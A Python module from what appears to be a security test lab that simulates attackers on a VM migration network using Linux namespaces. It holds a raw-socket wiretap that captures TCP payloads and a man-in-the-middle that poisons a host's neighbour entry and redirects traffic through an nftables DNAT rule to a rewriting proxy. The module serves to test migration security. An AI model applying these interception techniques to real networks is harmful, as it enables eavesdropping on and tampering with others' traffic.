"""An attacker on the migration segment: a passive wiretap on one host's link, and a
man-in-the-middle that has won the ARP race.

The lab's loopback attacks put a proxy in the path; on the namespaced hosts the attacker instead
taps the wire of the migration network: a raw packet socket (``AF_PACKET``) on the switch port
of a host's migration link sees every frame to and from that host, as a tap or a compromised
switch would. The TCP payload of each frame goes to a :class:`~trustmig.lab.proxy.Tap` (e.g. a
sniffer counting a secret marker), keyed by its flow. Nothing is sent: the tap only listens.

:class:`SegmentMitm` is the active attacker: the source host's neighbour entry for the
destination points at the attacker's MAC (what a won ARP-spoofing race leaves behind; the lab
sets it directly), the attacker's kernel redirects that destination's port to its own proxy
(nftables DNAT) and the proxy relays to the real destination, rewriting in flight.
"""

from __future__ import annotations

import json
import socket
import struct
import subprocess
import threading
import time
from dataclasses import dataclass, field

from trustmig.lab.proxy import MitmProxy, Tap
from trustmig.netns.enter import enter

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_STATISTICS = 6
SO_RCVBUFFORCE = 33
#: the tap's socket buffer: a whole lab guest's migration fits even if the reader stalls
TAP_BUFFER_BYTES = 1 << 30
#: how long stop() keeps reading frames the kernel had already queued
DRAIN_S = 60.0


def tcp_payload(frame: bytes) -> tuple[tuple[str, int, str, int], bytes] | None:
    """(flow, payload) of an Ethernet/IPv4/TCP frame with data, else None."""
    if len(frame) < 14 + 20 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 6 or len(ip) < ihl + 20:
        return None
    total = struct.unpack("!H", ip[2:4])[0] or len(ip)  # 0 in a GSO frame: take what is there
    tcp = ip[ihl : min(len(ip), max(total, ihl + 20))]
    off = (tcp[12] >> 4) * 4
    data = tcp[off:]
    if not data:
        return None
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    sport, dport = struct.unpack("!HH", tcp[:4])
    return (src, sport, dst, dport), bytes(data)


@dataclass
class SegmentTap:
    """Listen on ``ifname`` inside ``netns`` and hand each flow's payload to ``tap``."""

    netns: str
    ifname: str
    tap: Tap
    flows: dict[tuple[str, int, str, int], int] = field(default_factory=dict)
    frames: int = 0
    #: frames the kernel dropped because the reader fell behind (a lossy tap proves nothing)
    dropped: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)
    _drain_until: float = 0.0
    _thread: threading.Thread | None = None
    _ready: threading.Event = field(default_factory=threading.Event)
    error: str | None = None

    def start(self) -> SegmentTap:
        self._thread = threading.Thread(target=self._run, daemon=True, name="segment-tap")
        self._thread.start()
        self._ready.wait(10)
        if self.error:
            raise OSError(self.error)
        return self

    def _run(self) -> None:
        try:
            enter(self.netns)
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
            s.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, TAP_BUFFER_BYTES)
            s.bind((self.ifname, 0))
            s.settimeout(0.2)
        except OSError as e:
            self.error = f"cannot tap {self.ifname} in {self.netns}: {e}"
            self._ready.set()
            return
        self._ready.set()
        with s:
            try:
                self._read(s)
            except Exception as e:  # noqa: BLE001 - a broken tap must not pass for a clean one
                self.error = f"the tap on {self.ifname} failed: {type(e).__name__}: {e}"
            finally:
                self.dropped += _drops(s)

    def _read(self, s: socket.socket) -> None:
        while True:  # after stop(), what the kernel already holds is still read (a while)
            if self._stop.is_set() and time.monotonic() > self._drain_until:
                self.error = f"the tap on {self.ifname} stopped with frames still queued"
                break
            try:
                frame = s.recv(262144)
            except TimeoutError:
                if self._stop.is_set():
                    break
                continue
            self.frames += 1
            got = tcp_payload(frame)
            if got is None:
                continue
            flow, data = got
            index = self.flows.setdefault(flow, len(self.flows))
            self.tap.on_data(index, 0, data)

    def stop(self) -> None:
        self._drain_until = time.monotonic() + DRAIN_S
        self._stop.set()
        if self._thread is not None:
            self._thread.join(DRAIN_S + 5)
            if self._thread.is_alive():
                self.error = f"the tap on {self.ifname} was still reading after {DRAIN_S:.0f}s"


def _drops(s: socket.socket) -> int:
    """Frames dropped on ``s`` since the last call (the kernel's counters reset on reading)."""
    _packets, drops = struct.unpack("II", s.getsockopt(SOL_PACKET, PACKET_STATISTICS, 8))
    return int(drops)


def _run(*argv: str, stdin: str | None = None) -> str:
    out = subprocess.run(list(argv), input=stdin, capture_output=True, text=True, timeout=20,
                         check=False)  # fmt: skip
    if out.returncode != 0:
        raise OSError(f"{' '.join(argv[:6])}: {out.stderr.strip() or 'failed'}")
    return out.stdout


@dataclass
class SegmentMitm:
    """Between ``source_ns`` and ``victim_ip:port``, from ``attacker_ns`` (``attacker_ip`` on
    its ``eth0``), with ``tap`` on the source-to-destination direction."""

    source_ns: str
    source_dev: str
    attacker_ns: str
    attacker_ip: str
    victim_ip: str
    port: int
    tap: Tap
    proxy: MitmProxy | None = None

    def __enter__(self) -> SegmentMitm:
        made: list[MitmProxy] = []

        def build() -> None:  # the proxy's sockets and threads live in the attacker namespace
            enter(self.attacker_ns)
            proxy = MitmProxy((self.victim_ip, self.port), self.tap, (self.attacker_ip, 0),
                              lab_network=True)  # fmt: skip
            proxy.__enter__()
            made.append(proxy)

        t = threading.Thread(target=build)
        t.start()
        t.join(10)
        if not made:
            raise OSError(f"the attacker's proxy did not start in {self.attacker_ns}")
        self.proxy = made[0]
        try:
            rule = (f"table ip tm_mitm {{\n chain pre {{\n"
                    "  type nat hook prerouting priority dstnat;\n"
                    f"  ip daddr {self.victim_ip} tcp dport {self.port} "
                    f"dnat to {self.attacker_ip}:{self.proxy.address[1]}\n }}\n}}\n")  # fmt: skip
            _run("ip", "netns", "exec", self.attacker_ns, "nft", "-f", "-", stdin=rule)
            links = json.loads(_run("ip", "-n", self.attacker_ns, "-j", "link", "show", "eth0"))
            _run("ip", "-n", self.source_ns, "neigh", "replace", self.victim_ip, "lladdr",
                 links[0]["address"], "dev", self.source_dev, "nud", "permanent")  # fmt: skip
        except BaseException:
            self.__exit__()
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        subprocess.run(["ip", "-n", self.source_ns, "neigh", "del", self.victim_ip, "dev",
                        self.source_dev], capture_output=True, timeout=20)  # fmt: skip
        subprocess.run(["ip", "netns", "exec", self.attacker_ns, "nft", "delete", "table", "ip",
                        "tm_mitm"], capture_output=True, timeout=20)  # fmt: skip
        if self.proxy is not None:
            self.proxy.close()
